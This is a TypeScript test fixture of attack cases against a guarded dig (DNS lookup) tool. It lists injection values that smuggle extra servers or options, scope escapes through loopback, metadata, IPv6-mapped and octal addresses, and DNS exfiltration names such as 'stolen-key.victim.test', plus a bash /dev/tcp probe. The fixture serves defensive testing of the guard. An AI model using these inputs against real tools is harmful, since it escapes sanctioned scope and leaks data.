import { HOSTILE, METADATA, OUTSIDE, PORTS, SECOND, TARGET } from '../layout.ts';
import { asTool, type Attack, type Control, type Setting } from './attack.ts';

const NAME = 'web.lab.internal';
const ask = (name: string, more: Readonly<Record<string, unknown>> = {}) => ({ name, server: TARGET, ...more });
const via = (server: string) => ask(NAME, { server });
const outside = { address: OUTSIDE, port: PORTS.dns };
const inside = { address: TARGET, port: PORTS.dns };
const control: Control = { input: ask(NAME), reaches: inside };
const reverse: Control = { input: ask('10.0.77.10.in-addr.arpa', { type: 'PTR' }), reaches: inside };
const asked = (line: RegExp) => ({ log: 'dnsmasq', line }) as const;
const dig = (...args: string[]): string[] => ['dig', '+tries=1', '+time=1', ...args];
/** A question that leaves the scope, asked by dig itself, and the server's note of it. */
const leak = (name: string, line: RegExp, ...args: string[]) => ({
  unlogged: asked(line),
  unguarded: { argv: dig(`@${TARGET}`, ...args, name), reaches: inside, logs: asked(line) },
});

/** What dig must not be brought to do. */
export const DIG_ATTACKS: readonly Attack[] = [
  {
    name: 'ask a server out of scope',
    input: via(OUTSIDE),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control,
    unguarded: { argv: dig(`@${OUTSIDE}`, NAME), reaches: outside },
  },
  {
    name: 'ask a server out of scope over TCP',
    input: { ...via(OUTSIDE), transport: 'tcp' },
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control: { ...control, input: ask(NAME, { transport: 'tcp' }) },
    unguarded: { argv: dig('+tcp', `@${OUTSIDE}`, NAME), reaches: outside },
  },
  {
    name: 'ask the system’s server when none is given',
    input: { name: NAME },
    control,
    unguarded: { argv: dig(NAME), reaches: outside },
  },
  {
    name: 'take a server by a name that leads out of scope',
    input: via('outside.hostile.test'),
    refused: ['ERR_INPUT_INVALID'],
    control,
    unguarded: { argv: dig('@outside.hostile.test', NAME), reaches: outside },
  },
  {
    name: 'take a name for another server',
    input: ask(`@${OUTSIDE}`),
    refused: ['ERR_INPUT_INVALID'],
    control,
    unguarded: { argv: dig(`@${OUTSIDE}`), reaches: outside },
  },
  {
    name: 'take a name for an option that goes on by itself (+trace)',
    input: ask('+trace'),
    refused: ['ERR_INPUT_INVALID'],
    control,
  },
  {
    name: 'take a name for the option that reads questions from a file',
    input: ({ lab }: Setting) => ask(`-f${lab.traps}/queries.txt`),
    refused: ['ERR_INPUT_INVALID'],
    control,
    unguarded: { argv: ({ lab }) => dig('-f', `${lab.traps}/queries.txt`), reaches: outside },
  },
  {
    name: 'find a second server behind a line break in the name',
    input: ask(`${NAME}\n@${OUTSIDE}`),
    refused: ['ERR_INPUT_INVALID'],
    control,
  },
  {
    name: 'find a second server behind a space in the server',
    input: via(`${TARGET} ${NAME} @${OUTSIDE}`),
    refused: ['ERR_INPUT_INVALID'],
    control,
  },
  {
    name: 'find an option behind the type',
    input: ask(NAME, { type: `A @${OUTSIDE}` }),
    refused: ['ERR_INPUT_INVALID'],
    control,
  },
  {
    name: 'take an IPv4 server in IPv6 clothes',
    input: via(`::ffff:${OUTSIDE}`),
    refused: ['ERR_TARGET_OUT_OF_SCOPE', 'ERR_TARGET_INVALID'],
    control,
    unguarded: { argv: ['bash', '-c', `: </dev/tcp/::ffff:${OUTSIDE}/53`], reaches: outside },
  },
  {
    name: 'read the server’s octets as octal',
    input: via('10.77.0.024'),
    refused: ['ERR_TARGET_INVALID'],
    control,
  },
  {
    name: 'ask a server on the loopback of its own machine',
    input: via('127.0.0.1'),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control,
    unguarded: { argv: asTool(...dig('@127.0.0.1', NAME)), reaches: { address: '127.0.0.1', port: 53 } },
  },
  {
    name: 'ask the metadata address as a server',
    input: via(METADATA),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control,
    unguarded: { argv: dig(`@${METADATA}`, NAME), reaches: { address: METADATA, port: 53 } },
  },
  {
    name: 'ask a denied port of a good server',
    input: via(`${TARGET}:${PORTS.denied}`),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    spares: { address: TARGET, port: PORTS.denied },
    control: { input: via(`${SECOND}:${HOSTILE.dns}`), reaches: { address: SECOND, port: HOSTILE.dns } },
    unguarded: {
      argv: dig('-p', String(PORTS.denied), `@${TARGET}`, NAME),
      reaches: { address: TARGET, port: PORTS.denied },
    },
  },
  {
    name: 'ask port 0 of a good server',
    input: via(`${TARGET}:0`),
    refused: ['ERR_INPUT_INVALID', 'ERR_TARGET_INVALID'],
    control,
  },
  {
    name: 'carry data out in a name that nobody owns (exfiltration by questions)',
    input: ask('stolen-key.victim.test'),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control,
    ...leak('stolen-key.victim.test', /stolen-key\.victim\.test/),
  },
  {
    name: 'take an ending for a zone (badlab.internal is not below lab.internal)',
    input: ask('www.badlab.internal'),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control,
    ...leak('www.badlab.internal', /badlab\.internal/),
  },
  {
    name: 'take a beginning for a zone (web.lab.internal.evil.test)',
    input: ask(`${NAME}.evil.test`),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control,
    ...leak(`${NAME}.evil.test`, /evil\.test/),
  },
  {
    name: 'ask for the reverse name of an address out of scope',
    input: ask(OUTSIDE, { type: 'PTR' }),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control: reverse,
    ...leak(OUTSIDE, /10\.88\.0\.10|10\.0\.88\.10/, '-x'),
  },
  {
    name: 'ask for a reverse name out of scope by its spelling',
    input: ask('11.0.88.10.in-addr.arpa', { type: 'PTR' }),
    refused: ['ERR_TARGET_OUT_OF_SCOPE'],
    control: reverse,
    ...leak('11.0.88.10.in-addr.arpa', /10\.88\.0\.11|11\.0\.88\.10/, '-t', 'PTR'),
  },
  {
    name: 'ask for the root, which every name is below',
    input: ask('.'),
    refused: ['ERR_INPUT_INVALID'],
    control,
  },
];
